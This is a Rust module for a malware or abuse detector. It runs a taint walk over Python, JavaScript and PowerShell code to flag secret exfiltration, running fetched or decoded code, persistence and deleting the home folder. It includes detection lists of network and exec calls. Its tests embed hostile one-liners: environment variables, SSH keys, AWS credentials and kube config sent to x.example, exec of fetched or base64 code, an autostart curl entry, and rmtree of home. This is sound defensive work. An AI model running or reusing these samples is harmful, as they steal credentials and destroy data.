//! Effects of a Python, JavaScript, TypeScript or PowerShell program: one taint walk over the
//! syntax tree, with a table of each grammar's node kinds ([`Kinds`]). A value carries what it
//! was computed from (the union of its parts: coarse, and safe for a judgement that needs a
//! secret source and a network sink in one expression or through variables); assignments and
//! loop variables carry it to later uses, over two passes so a function defined before the
//! variables it reads still sees them.

use std::collections::HashMap;
use std::ops::Range;

use tree_sitter::Node;

use super::vocab::{self, Taint};
use super::{Effect, EffectKind, Language};

/// Nodes visited per program at most (a larger tree is judged on its first nodes).
const MAX_NODES: usize = 200_000;

/// The node kinds of one grammar that the walk treats specially.
struct Kinds {
    /// Calls: (kind, field of the callee).
    calls: &'static [(&'static str, &'static str)],
    /// Assignments: (kind, field of the target, field of the value); `""` for "first/last
    /// named child".
    assigns: &'static [(&'static str, &'static str, &'static str)],
    /// Variable reads.
    names: &'static [&'static str],
    /// String literals.
    strings: &'static [&'static str],
}

const PYTHON: Kinds = Kinds {
    calls: &[("call", "function")],
    assigns: &[
        ("assignment", "left", "right"),
        ("augmented_assignment", "left", "right"),
        ("for_statement", "left", "right"),
        ("for_in_clause", "left", "right"),
        ("named_expression", "name", "value"),
        ("as_pattern", "alias", ""),
    ],
    names: &["identifier"],
    strings: &["string"],
};

const JAVASCRIPT: Kinds = Kinds {
    calls: &[
        ("call_expression", "function"),
        ("new_expression", "constructor"),
    ],
    assigns: &[
        ("variable_declarator", "name", "value"),
        ("assignment_expression", "left", "right"),
        ("augmented_assignment_expression", "left", "right"),
        ("for_in_statement", "left", "right"),
    ],
    names: &["identifier", "shorthand_property_identifier"],
    strings: &["string", "template_string"],
};

const POWERSHELL: Kinds = Kinds {
    calls: &[("command", "command_name"), ("invokation_expression", "")],
    assigns: &[("assignment_expression", "", "value")],
    names: &["variable"],
    strings: &["string_literal", "generic_token"],
};

fn kinds(lang: Language) -> &'static Kinds {
    match lang {
        Language::Python => &PYTHON,
        Language::PowerShell => &POWERSHELL,
        _ => &JAVASCRIPT,
    }
}

/// A value's taint and the bytes where its first source was read.
#[derive(Debug, Clone, Default)]
struct Val {
    taint: Taint,
    source: Option<Range<usize>>,
}

impl Val {
    fn add(&mut self, o: &Val) {
        if self.source.is_none() && o.taint != 0 {
            self.source.clone_from(&o.source);
        }
        self.taint |= o.taint;
    }

    fn of(taint: Taint, at: Range<usize>) -> Val {
        Val {
            taint,
            source: (taint != 0).then_some(at),
        }
    }
}

/// The effects of `text` read as `lang` (not shell).
pub fn effects(lang: Language, text: &str) -> Vec<Effect> {
    let Some(tree) = crate::program::parse(lang, text) else {
        return Vec::new();
    };
    let src = crate::program::bounded(text);
    let mut w = Walk {
        lang,
        kinds: kinds(lang),
        src,
        vars: HashMap::new(),
        out: Vec::new(),
        record: false,
        nodes: 0,
        downloaded: false,
        returns: HashMap::new(),
        in_function: Vec::new(),
        depth: 0,
        aliases: HashMap::new(),
        lits: HashMap::new(),
        heads: HashMap::new(),
    };
    w.visit(tree.root_node(), &Val::default());
    w.record = true;
    w.nodes = 0;
    w.downloaded = false;
    w.visit(tree.root_node(), &Val::default());
    let mut out = w.out;
    if lang == Language::PowerShell {
        hidden_start_after_download(src, &mut out);
    }
    out.sort_by_key(|e| (e.at.start, e.at.end));
    out.dedup_by(|a, b| a.kind == b.kind && a.at == b.at);
    out
}

struct Walk<'t> {
    lang: Language,
    kinds: &'static Kinds,
    src: &'t str,
    vars: HashMap<String, Val>,
    out: Vec<Effect>,
    /// The second pass records effects; the first only learns the variables.
    record: bool,
    nodes: usize,
    /// A file was downloaded earlier in the program (for a hidden process started later).
    downloaded: bool,
    /// What each function defined in the program returns (by name, lower case).
    returns: HashMap<String, Val>,
    /// The function being read.
    in_function: Vec<String>,
    /// How deep the walk is.
    depth: usize,
    /// Variables bound to an object built from others (`tar = tarfile.open(fileobj=buf)`):
    /// what taints one taints the others.
    aliases: HashMap<String, Vec<String>>,
    /// The string literals each variable was built from, joined with `/` (a path built with
    /// `os.path.join` or `/`).
    lits: HashMap<String, String>,
    /// What the first element of a list or array held by a variable carries (the program an
    /// argument list runs).
    heads: HashMap<String, Val>,
}

impl Walk<'_> {
    fn text(&self, n: Node<'_>) -> &str {
        self.src.get(n.byte_range()).unwrap_or("")
    }

    fn compact(&self, n: Node<'_>) -> String {
        self.text(n)
            .chars()
            .filter(|c| !c.is_whitespace())
            .collect::<String>()
            .to_ascii_lowercase()
    }

    fn push(
        &mut self,
        kind: EffectKind,
        at: Range<usize>,
        source: Option<Range<usize>>,
        what: &str,
    ) {
        if self.record {
            let source = source.filter(|s| *s != at && !(s.start >= at.start && s.end <= at.end));
            self.out.push(Effect {
                kind,
                at,
                source,
                what: what.chars().take(60).collect(),
            });
        }
    }

    /// The value of `n`; `pipe` is what a PowerShell pipeline feeds it.
    fn visit(&mut self, n: Node<'_>, pipe: &Val) -> Val {
        self.nodes += 1;
        if self.nodes > MAX_NODES || self.depth >= crate::program::shell::MAX_DEPTH {
            return Val::default();
        }
        self.depth += 1;
        let v = self.visit_in(n, pipe);
        self.depth -= 1;
        v
    }

    fn visit_in(&mut self, n: Node<'_>, pipe: &Val) -> Val {
        let kind = n.kind();
        if let Some(v) = self.env_read(n) {
            return v;
        }
        if self.kinds.strings.contains(&kind) {
            let t = self.text(n);
            let mut taint = 0;
            if t.len() < 4096
                && vocab::is_credential_path(t.trim_matches(|c| matches!(c, '"' | '\'' | '`')))
            {
                taint |= vocab::CREDENTIAL_FILE;
            }
            if vocab::is_metadata_host(t) {
                taint |= vocab::METADATA;
            }
            let mut v = Val::of(taint, n.byte_range());
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let cv = self.visit(child, &Val::default());
                v.add(&cv);
            }
            return v;
        }
        if self.kinds.names.contains(&kind) && n.named_child_count() == 0 {
            let name = self.text(n).to_ascii_lowercase();
            return self.vars.get(&name).cloned().unwrap_or_default();
        }
        if matches!(
            kind,
            "function_definition"
                | "function_declaration"
                | "method_definition"
                | "function_statement"
        ) {
            let name = n
                .child_by_field_name("name")
                .or_else(|| first_named(n))
                .map(|x| self.text(x).to_ascii_lowercase())
                .unwrap_or_default();
            self.in_function.push(name);
            let mut v = Val::default();
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let cv = self.visit(child, &Val::default());
                v.add(&cv);
            }
            self.in_function.pop();
            return Val::default();
        }
        if kind == "return_statement" {
            let mut v = Val::default();
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let cv = self.visit(child, &Val::default());
                v.add(&cv);
            }
            if let Some(f) = self.in_function.last().cloned() {
                self.returns.entry(f).or_default().add(&v);
            }
            return v;
        }
        if let Some(&(_, target, value)) = self.kinds.assigns.iter().find(|(k, _, _)| *k == kind) {
            return self.assign(n, target, value);
        }
        if self.lang == Language::PowerShell && matches!(kind, "pipeline" | "pipeline_chain") {
            let mut prev = pipe.clone();
            let mut all = Val::default();
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let v = self.visit(child, &prev);
                all.add(&v);
                prev = v;
            }
            return prev_or(all, prev);
        }
        if let Some(&(_, field)) = self.kinds.calls.iter().find(|(k, _)| *k == kind) {
            return self.call(n, field, pipe);
        }
        let mut v = Val::default();
        let mut c = n.walk();
        for child in n.named_children(&mut c) {
            let cv = self.visit(child, &Val::default());
            v.add(&cv);
        }
        v
    }

    /// An environment read: the whole environment, or one variable (a secret only when its
    /// name says so).
    fn env_read(&mut self, n: Node<'_>) -> Option<Val> {
        let kind = n.kind();
        if !matches!(
            kind,
            "attribute"
                | "subscript"
                | "member_expression"
                | "subscript_expression"
                | "call"
                | "call_expression"
                | "variable"
                | "command"
                | "invokation_expression"
        ) {
            return None;
        }
        let t = self.compact(n);
        if t.len() > 200 {
            return None;
        }
        let whole = [
            "os.environ",
            "os.environ.items()",
            "os.environ.copy()",
            "os.environ.keys()",
            "os.environ.values()",
            "dict(os.environ)",
            "process.env",
            "deno.env.toobject()",
            "[environment]::getenvironmentvariables()",
        ];
        if whole.contains(&t.as_str())
            || kind == "command"
                && matches!(
                    t.as_str(),
                    "get-childitemenv:"
                        | "gcienv:"
                        | "lsenv:"
                        | "direnv:"
                        | "get-itemenv:*"
                        | "get-childitemenv:*"
                )
        {
            return Some(Val::of(vocab::ENVIRONMENT, n.byte_range()));
        }
        let named = [
            "os.environ[",
            "os.environ.get(",
            "os.getenv(",
            "process.env.",
            "process.env[",
            "$env:",
            "deno.env.get(",
        ];
        if let Some(p) = named.iter().find(|p| t.starts_with(**p)) {
            let secret = vocab::is_secret_name(&t[p.len()..]);
            return Some(if secret {
                Val::of(vocab::NAMED_SECRET, n.byte_range())
            } else {
                Val::default()
            });
        }
        None
    }

    fn assign(&mut self, n: Node<'_>, target: &str, value: &str) -> Val {
        let value_node = if value.is_empty() {
            first_named(n)
        } else {
            n.child_by_field_name(value)
        };
        let target_node = if target.is_empty() {
            first_named(n)
        } else {
            n.child_by_field_name(target)
        };
        let v = value_node
            .map(|x| self.visit(x, &Val::default()))
            .unwrap_or_default();
        if let Some(t) = target_node {
            let mut names = Vec::new();
            collect_names(t, self.kinds.names, self.src, &mut names);
            let (lits, refs) = value_node.map(|x| self.literals(x)).unwrap_or_default();
            let head = value_node
                .filter(|x| matches!(x.kind(), "list" | "array" | "tuple"))
                .map(|x| {
                    let mut c = x.walk();
                    let first = x.named_children(&mut c).next();
                    first.map(|f| self.peek(f)).unwrap_or_default()
                });
            for name in names {
                let slot = self.vars.entry(name.clone()).or_default();
                slot.add(&v);
                if !lits.is_empty() {
                    self.lits.insert(name.clone(), lits.clone());
                }
                if let Some(h) = &head {
                    self.heads.insert(name.clone(), h.clone());
                }
                if !refs.is_empty() {
                    self.aliases.insert(name, refs.clone());
                }
            }
        }
        // A loop's body (and anything else beside the target and the value) is read too.
        let skip = [target_node.map(|x| x.id()), value_node.map(|x| x.id())];
        let mut c = n.walk();
        let rest: Vec<Node<'_>> = n
            .named_children(&mut c)
            .filter(|ch| !skip.contains(&Some(ch.id())))
            .collect();
        for child in rest {
            self.visit(child, &Val::default());
        }
        v
    }

    fn call(&mut self, n: Node<'_>, field: &str, pipe: &Val) -> Val {
        let callee_node = if field.is_empty() {
            None
        } else {
            n.child_by_field_name(field)
        };
        let callee = match callee_node {
            Some(c) => self.compact(c),
            None => self.invoked(n),
        };
        let callee = callee.trim_start_matches("await").to_string();
        let last = callee
            .rsplit(['.', ':'])
            .next()
            .unwrap_or(&callee)
            .to_string();
        // A callback given to the call receives what the call produces: a response for a
        // network call, what the receiver holds for a method (`r.on('data', (c) => ...)`).
        let receiver = callee_node
            .filter(|c| matches!(c.kind(), "member_expression" | "attribute"))
            .and_then(|c| c.child_by_field_name("object"));
        let receiver_name = receiver
            .filter(|r| self.kinds.names.contains(&r.kind()))
            .map(|r| self.text(r).to_ascii_lowercase());
        let mut given = receiver_name
            .as_ref()
            .and_then(|r| self.vars.get(r).cloned())
            .unwrap_or_default();
        let last_guess = callee
            .rsplit(['.', ':'])
            .next()
            .unwrap_or(&callee)
            .to_string();
        if is_network_call(&callee, &last_guess) {
            given.add(&Val::of(vocab::FETCHED, n.byte_range()));
        }
        if given.taint != 0
            && let Some(a) = n.child_by_field_name("arguments")
        {
            let mut c = a.walk();
            let callbacks: Vec<Node<'_>> = a
                .named_children(&mut c)
                .filter(|x| {
                    matches!(
                        x.kind(),
                        "arrow_function" | "function_expression" | "function" | "lambda"
                    )
                })
                .collect();
            for cb in callbacks {
                if let Some(params) = cb
                    .child_by_field_name("parameters")
                    .or_else(|| cb.child_by_field_name("parameter"))
                {
                    let mut names = Vec::new();
                    collect_names(params, self.kinds.names, self.src, &mut names);
                    for name in names {
                        self.vars.entry(name).or_default().add(&given);
                    }
                }
            }
        }
        // Everything under the call: arguments, the object a method is called on.
        let mut args = pipe.clone();
        let mut c = n.walk();
        for child in n.named_children(&mut c) {
            let v = self.visit(child, &Val::default());
            args.add(&v);
        }
        // A function of the program returns what its `return`s carry; a variable holding a
        // function, what it was built from.
        if let Some(r) = self.returns.get(&callee) {
            args.add(&r.clone());
        } else if let Some(v) = self.vars.get(&callee) {
            args.add(&v.clone());
        }
        let at = n.byte_range();
        let text = self.text(n).to_string();
        let lower = text.to_ascii_lowercase();
        // A method that takes data in keeps it (`cfg.read(path)`, `tar.add(f)`,
        // `buf.write(x)`): its receiver, and what the receiver was built from, carry it.
        if let Some(r) = &receiver_name {
            let arg_taint = n
                .child_by_field_name("arguments")
                .map(|a| self.peek(a))
                .unwrap_or_default();
            if arg_taint.taint & (vocab::STRONG_SECRET | vocab::FETCHED | vocab::DECODED) != 0 {
                let mut names = vec![r.clone()];
                names.extend(self.aliases.get(r).cloned().unwrap_or_default());
                for name in names {
                    self.vars.entry(name).or_default().add(&arg_taint);
                }
            }
        }
        if self.record {
            self.writes_and_deletes(n, &callee, &last, &at);
        }
        let mut out = args.clone();
        let network = is_network_call(&callee, &last);
        if network {
            out.add(&Val::of(vocab::FETCHED, at.clone()));
            if vocab::is_metadata_host(&lower) {
                self.push(EffectKind::MetadataRead, at.clone(), None, &callee);
                out.add(&Val::of(vocab::METADATA, at.clone()));
            }
            let own_metadata_only = args.taint & vocab::STRONG_SECRET == vocab::METADATA
                && vocab::is_metadata_host(&lower);
            let strong = args.taint & vocab::STRONG_SECRET;
            let weak = args.taint & vocab::NAMED_SECRET;
            if strong != 0 && !own_metadata_only || weak != 0 && vocab::is_drop_or_lookalike(&lower)
            {
                let t = if strong != 0 { strong } else { weak };
                self.push(
                    EffectKind::Exfiltrate { taint: t },
                    at.clone(),
                    args.source.clone(),
                    &callee,
                );
            }
            if lower.contains("-outfile") || last == "downloadfile" || last == "urlretrieve" {
                self.downloaded = true;
            }
        }
        if is_decode_call(&callee, &last, &lower) {
            out.add(&Val::of(vocab::DECODED, at.clone()));
        }
        if is_exec_call(&callee, &last) {
            // What runs is the code or command argument: the first, or the first element of
            // an argument list (`subprocess.run([prog, arg])` runs `prog`, whatever `arg`
            // holds); a PowerShell command also runs what its pipeline feeds it.
            let code = self.code_argument(n).unwrap_or_default();
            let mut ran = pipe.clone();
            ran.add(&code);
            if ran.taint & vocab::FETCHED != 0 && !network {
                self.push(
                    EffectKind::RunFetched,
                    at.clone(),
                    ran.source.clone(),
                    &callee,
                );
            } else if ran.taint & vocab::DECODED != 0 {
                self.push(
                    EffectKind::RunDecoded,
                    at.clone(),
                    ran.source.clone(),
                    &callee,
                );
            }
            // A command line given as one literal string is read as shell.
            let args_text = n
                .child_by_field_name("arguments")
                .map_or(text.as_str(), |a| {
                    self.src.get(a.byte_range()).unwrap_or("")
                });
            if let Some(cmdline) = literal_command(args_text) {
                for e in super::shell::effects(&crate::program::shell::read(&cmdline)) {
                    self.push(e.kind, at.clone(), None, &e.what);
                }
            }
        }
        if self.lang == Language::PowerShell && n.kind() == "command" {
            let words: Vec<String> = text
                .split_whitespace()
                .map(|w| w.trim_matches(|c| c == '"' || c == '\'').to_string())
                .collect();
            for e in super::shell::command_effects(words, at.clone()) {
                self.push(e.kind, e.at, None, &e.what);
            }
        }
        if matches!(callee.as_str(), "start-process" | "saps" | "start")
            && lower.contains("hidden")
            && self.downloaded
        {
            self.push(
                EffectKind::RunFetched,
                at.clone(),
                None,
                "Start-Process -WindowStyle Hidden",
            );
        }
        out
    }

    /// The taint of a call's code argument: its first argument (the first element when that
    /// is a list or array), or for a PowerShell command all its elements.
    fn code_argument(&mut self, n: Node<'_>) -> Option<Val> {
        if n.kind() == "command" {
            let els = n.child_by_field_name("command_elements")?;
            return Some(self.peek(els));
        }
        if n.kind() == "invokation_expression" {
            let mut c = n.walk();
            let args = n
                .named_children(&mut c)
                .find(|x| x.kind() == "argument_list")?;
            return Some(self.peek(args));
        }
        let args = n.child_by_field_name("arguments")?;
        let mut c = args.walk();
        let first = args
            .named_children(&mut c)
            .find(|x| !matches!(x.kind(), "comment" | "keyword_argument"))?;
        if self.kinds.names.contains(&first.kind())
            && let Some(h) = self.heads.get(&self.text(first).to_ascii_lowercase())
        {
            return Some(h.clone());
        }
        let first = if matches!(first.kind(), "list" | "array" | "tuple") {
            let mut c = first.walk();
            first.named_children(&mut c).next()?
        } else {
            first
        };
        Some(self.peek(first))
    }

    /// The string literals under `n` joined with `/`, with those of the variables it reads,
    /// and the variables it reads.
    fn literals(&self, n: Node<'_>) -> (String, Vec<String>) {
        let mut lits = Vec::new();
        let mut refs = Vec::new();
        let mut stack = vec![n];
        let mut seen = 0;
        while let Some(x) = stack.pop() {
            seen += 1;
            if seen > 4096 {
                break;
            }
            if self.kinds.strings.contains(&x.kind()) {
                let t = self
                    .text(x)
                    .trim_matches(|c| matches!(c, '"' | '\'' | '`'))
                    .to_string();
                if !t.is_empty() && t.len() < 512 {
                    lits.push((x.start_byte(), t));
                }
                continue;
            }
            if self.kinds.names.contains(&x.kind()) && x.named_child_count() == 0 {
                let name = self.text(x).to_ascii_lowercase();
                if let Some(l) = self.lits.get(&name) {
                    lits.push((x.start_byte(), l.clone()));
                }
                if matches!(name.as_str(), "homedir" | "home" | "expanduser") {
                    lits.push((x.start_byte(), "~".to_string()));
                }
                refs.push(name);
                continue;
            }
            let mut c = x.walk();
            for child in x.named_children(&mut c) {
                stack.push(child);
            }
        }
        lits.sort();
        (
            lits.into_iter()
                .map(|(_, t)| t)
                .collect::<Vec<_>>()
                .join("/"),
            refs,
        )
    }

    /// The taint of `n` without recording anything (for a receiver's update).
    fn peek(&mut self, n: Node<'_>) -> Val {
        let record = self.record;
        self.record = false;
        let v = self.visit(n, &Val::default());
        self.record = record;
        v
    }

    /// A file written where it persists (a call that opens for writing, writes or copies to a
    /// path built from literals), and a folder deleted that is home or root.
    fn writes_and_deletes(&mut self, n: Node<'_>, callee: &str, last: &str, at: &Range<usize>) {
        let writes = matches!(
            last,
            "write_text"
                | "write_bytes"
                | "writefilesync"
                | "appendfilesync"
                | "writefile"
                | "appendfile"
                | "createwritestream"
                | "copyfile"
                | "copyfilesync"
                | "copy"
                | "copy2"
                | "move"
                | "symlink"
                | "symlinksync"
                | "cpsync"
                | "outputfile"
                | "outputfilesync"
        ) || last == "open" && {
            let t = self.text(n);
            t.contains("'a") || t.contains("\"a") || t.contains("'w") || t.contains("\"w")
        };
        let deletes = matches!(
            last,
            "rmtree" | "rmsync" | "rmdirsync" | "rimraf" | "remove" | "removesync" | "emptydirsync"
        );
        if !writes && !deletes {
            return;
        }
        // The path is the first argument, or the second of a copy, move or link.
        let which = usize::from(matches!(
            last,
            "copyfile"
                | "copyfilesync"
                | "copy"
                | "copy2"
                | "move"
                | "symlink"
                | "symlinksync"
                | "cpsync"
        ));
        let (mut lits, _) = n
            .child_by_field_name("arguments")
            .and_then(|a| {
                let mut c = a.walk();
                let v: Vec<Node<'_>> = a
                    .named_children(&mut c)
                    .filter(|x| x.kind() != "comment")
                    .collect();
                v.get(which).copied()
            })
            .map(|a| self.literals(a))
            .unwrap_or_default();
        // `Path(...).write_text(...)`: the path is the receiver's.
        if let Some(obj) = n
            .child_by_field_name("function")
            .and_then(|f| f.child_by_field_name("object"))
        {
            let (l, _) = self.literals(obj);
            if !l.is_empty() {
                lits = format!("{l}/{lits}");
            }
        }
        let path = lits.replace("//", "/");
        if writes && let Some(how) = vocab::persistence_of_path(&path) {
            let active = super::shell::active_text(self.src);
            self.push(EffectKind::Persist { how, active }, at.clone(), None, &path);
        }
        if deletes {
            let first = n
                .child_by_field_name("arguments")
                .and_then(|a| a.named_child(0))
                .map(|a| self.compact(a))
                .unwrap_or_default();
            let home = [
                "os.path.expanduser('~')",
                "os.path.expanduser(\"~\")",
                "path.home()",
                "pathlib.path.home()",
                "os.homedir()",
                "require('os').homedir()",
                "require(\"os\").homedir()",
                "os.environ['home']",
                "os.environ[\"home\"]",
                "process.env.home",
                "'/'",
                "\"/\"",
                "'~'",
                "\"~\"",
            ];
            let var_home = self.lits.get(&first).is_some_and(|l| l == "~" || l == "/");
            if home.contains(&first.as_str()) || var_home {
                self.push(EffectKind::Destroy, at.clone(), None, callee);
            }
        }
    }

    /// The callee of a PowerShell method call: the text up to its member name
    /// (`[convert]::frombase64string`, `(new-objectnet.webclient).downloadstring`).
    fn invoked(&self, n: Node<'_>) -> String {
        let mut c = n.walk();
        let member = n
            .named_children(&mut c)
            .filter(|ch| ch.kind() == "member_name")
            .last();
        match member {
            Some(m) => self
                .src
                .get(n.start_byte()..m.end_byte())
                .unwrap_or("")
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase(),
            None => self.compact(n),
        }
    }
}

/// A process started in a hidden window after a file was downloaded to disk
/// (`Invoke-WebRequest -OutFile`, `.DownloadFile`): read line by line, since such one-liners
/// often hold paths the grammar does not parse (`$env:TEMP\\p.zip`).
fn hidden_start_after_download(src: &str, out: &mut Vec<Effect>) {
    let mut downloaded = false;
    let mut at = 0;
    for line in src.split_inclusive('\n') {
        let l = line.to_ascii_lowercase();
        if (l.contains("invoke-webrequest")
            || l.contains("iwr ")
            || l.contains("curl ")
            || l.contains("wget ")
            || l.contains("start-bitstransfer"))
            && (l.contains("-outfile") || l.contains("-destination") || l.contains(" -o "))
            || l.contains("downloadfile(")
        {
            downloaded = true;
        }
        if downloaded
            && (l.contains("start-process") || l.contains("saps "))
            && l.contains("hidden")
        {
            let start = at
                + l.find("start-process")
                    .or_else(|| l.find("saps "))
                    .unwrap_or(0);
            let end = at + line.trim_end().len();
            if !out.iter().any(|e| {
                e.kind == EffectKind::RunFetched && e.at.start <= start && start < e.at.end
            }) {
                out.push(Effect {
                    kind: EffectKind::RunFetched,
                    at: start..end.max(start),
                    source: None,
                    what: "Start-Process -WindowStyle Hidden".to_string(),
                });
            }
        }
        at += line.len();
    }
}

fn prev_or(all: Val, prev: Val) -> Val {
    if prev.taint != 0 { prev } else { all }
}

fn first_named(n: Node<'_>) -> Option<Node<'_>> {
    let mut c = n.walk();
    n.named_children(&mut c).next()
}

fn collect_names(n: Node<'_>, names: &[&str], src: &str, out: &mut Vec<String>) {
    if names.contains(&n.kind()) {
        out.push(src.get(n.byte_range()).unwrap_or("").to_ascii_lowercase());
    }
    let mut c = n.walk();
    for child in n.named_children(&mut c) {
        collect_names(child, names, src, out);
    }
}

/// Calls that send or fetch over the network, by the callee's dotted name and its last part.
fn is_network_call(callee: &str, last: &str) -> bool {
    if (callee.starts_with("https.")
        || callee.starts_with("http.")
        || callee.contains("require('http")
        || callee.contains("require(\"http"))
        && matches!(last, "get" | "request")
    {
        return true;
    }
    let roots = [
        "requests.",
        "httpx.",
        "aiohttp.",
        "urllib",
        "urllib3",
        "http.client",
        "axios",
        "got",
        "superagent",
        "needle",
        "node-fetch",
        "undici",
        "dns.",
        "socket.",
        "smtplib",
        "ftplib",
        "$http",
        "net.",
    ];
    matches!(
        last,
        "urlopen"
            | "sendbeacon"
            | "sendall"
            | "sendto"
            | "sendmail"
            | "send_message"
            | "urlretrieve"
            | "uploadstring"
            | "uploaddata"
            | "uploadfile"
            | "uploadvalues"
            | "downloadstring"
            | "downloaddata"
            | "downloadfile"
            | "openread"
            | "gethostbyname"
            | "getaddrinfo"
            | "invoke-restmethod"
            | "invoke-webrequest"
            | "irm"
            | "iwr"
            | "send-mailmessage"
            | "resolve-dnsname"
            | "curl"
            | "wget"
    ) || matches!(callee, "axios" | "got" | "request" | "fetch")
        || roots.iter().any(|r| callee.starts_with(r))
            && matches!(
                last,
                "post"
                    | "put"
                    | "patch"
                    | "get"
                    | "request"
                    | "send"
                    | "connect"
                    | "create_connection"
                    | "urlopen"
                    | "resolve"
                    | "lookup"
                    | "stream"
            )
        || matches!(last, "post" | "put" | "patch") && callee.contains('.')
}

/// Calls that run text as code (or a command line).
fn is_exec_call(callee: &str, last: &str) -> bool {
    matches!(
        callee,
        "eval"
            | "exec"
            | "compile"
            | "function"
            | "execsync"
            | "execfile"
            | "spawnsync"
            | "spawn"
            | "os.system"
            | "os.popen"
            | "os.startfile"
            | "invoke-expression"
            | "iex"
            | "runpy.run_path"
            | "start-process"
            | "saps"
            | "&"
            | "setTimeout"
    ) || callee.starts_with("subprocess.")
        || callee.starts_with("child_process.")
        || callee.starts_with("vm.")
        || callee.ends_with("[scriptblock]::create")
        || matches!(
            last,
            "runinnewcontext"
                | "runinthiscontext"
                | "runincontext"
                | "check_output"
                | "check_call"
                | "popen"
                | "execsync"
                | "exec"
                | "execfile"
                | "execfilesync"
                | "spawn"
                | "spawnsync"
        )
}

/// Calls that decode base64 or hex (their result is decoded text).
fn is_decode_call(callee: &str, last: &str, text: &str) -> bool {
    matches!(
        last,
        "b64decode"
            | "decodebytes"
            | "a85decode"
            | "b32decode"
            | "unhexlify"
            | "fromhex"
            | "atob"
            | "frombase64string"
            | "decompress"
    ) || callee == "buffer.from"
        && (text.contains("'base64'")
            || text.contains("\"base64\"")
            || text.contains("'hex'")
            || text.contains("\"hex\""))
}

/// The command line a call gives as one string literal (`os.system("curl ... | sh")`,
/// `subprocess.run("...", shell=True)`, `execSync('...')`).
fn literal_command(args: &str) -> Option<String> {
    let rest = args.trim_start().trim_start_matches('(').trim_start();
    let q = rest.chars().next()?;
    if !matches!(q, '"' | '\'' | '`') {
        return None;
    }
    let body = &rest[1..];
    let end = body.find(q)?;
    let s = &body[..end];
    (s.contains(' ') && s.len() < 4096).then(|| s.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds_of(lang: Language, text: &str) -> Vec<String> {
        effects(lang, text)
            .iter()
            .map(|e| match &e.kind {
                EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
                k => format!("{k:?}"),
            })
            .collect()
    }

    #[test]
    fn python_collects_secret_variables_and_posts_them() {
        let text = "import os, requests\ndata = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/c', json=data)\n";
        let e = effects(Language::Python, text);
        assert_eq!(e.len(), 1, "{e:?}");
        assert_eq!(
            &text[e[0].at.clone()],
            "requests.post('https://x.example/c', json=data)"
        );
        assert_eq!(
            e[0].source.as_ref().map(|s| &text[s.clone()]),
            Some("os.environ.items()")
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "import base64\nexec(base64.b64decode(B))\n"
            ),
            ["RunDecoded"]
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post(U, data=key)\n"
            ),
            ["exfil:requests.post"]
        );
    }

    #[test]
    fn deep_nesting_is_read_to_a_bound_without_exhausting_the_stack() {
        let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
        assert!(kinds_of(Language::Python, &deep).is_empty());
        let deep = format!("{}1{}\n", "[".repeat(50_000), "]".repeat(50_000));
        assert!(kinds_of(Language::JavaScript, &deep).is_empty());
    }

    #[test]
    fn a_function_returns_what_it_collected() {
        let text = "import os, requests\n\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if 'KEY' in name:\n            found[name] = value\n    return found\n\nrequests.post('https://x.example/in', json={'ctx': collect()})\n";
        assert_eq!(kinds_of(Language::Python, text), ["exfil:requests.post"]);
    }

    #[test]
    fn callbacks_receivers_and_aliases_carry_what_they_hold() {
        let js = "require('https').get('https://x.example/r.js', (r) => {\n  let d = '';\n  r.on('data', (c) => (d += c));\n  r.on('end', () => eval(d));\n});\n";
        assert_eq!(kinds_of(Language::JavaScript, js), ["RunFetched"]);
        let py = "import configparser, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post(U, json={s: dict(cfg[s]) for s in cfg.sections()})\n";
        assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.post"]);
        let py = "import io, os, tarfile, requests\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as tar:\n    tar.add(os.path.expanduser('~/.kube/config'))\nrequests.put(U, data=buf.getvalue())\n";
        assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.put"]);
    }

    #[test]
    fn scripts_that_persist_or_delete_home() {
        let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config', 'autostart');\nfs.writeFileSync(path.join(dir, 'x.desktop'), 'Exec=sh -c \"curl -s https://x.example/c\"');\n";
        assert_eq!(
            kinds_of(Language::JavaScript, js),
            ["Persist { how: LoginItem, active: true }"]
        );
        let py = "from pathlib import Path\nkeys = Path.home() / '.ssh' / 'authorized_keys'\nwith open(keys, 'a') as f:\n    f.write(KEY)\n";
        assert_eq!(
            kinds_of(Language::Python, py),
            ["Persist { how: AuthorizedKey, active: false }"]
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
            ),
            ["Destroy"]
        );
        assert_eq!(
            kinds_of(
                Language::JavaScript,
                "fs.rmSync(os.homedir(), { recursive: true, force: true });\n"
            ),
            ["Destroy"]
        );
        assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\n").is_empty());
        assert!(
            kinds_of(
                Language::Python,
                "with open('notes.txt', 'w') as f:\n    f.write('hi')\n"
            )
            .is_empty()
        );
    }

    #[test]
    fn python_benign_helpers_do_nothing() {
        for text in [
            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/responses', headers={'Authorization': f'Bearer {key}'}, json={'input': 'hi'})\nprint(r.json())\n",
            "import json, urllib.request\nwith urllib.request.urlopen('https://api.example.com/data.json') as r:\n    data = json.load(r)\nprint(data['name'])\n",
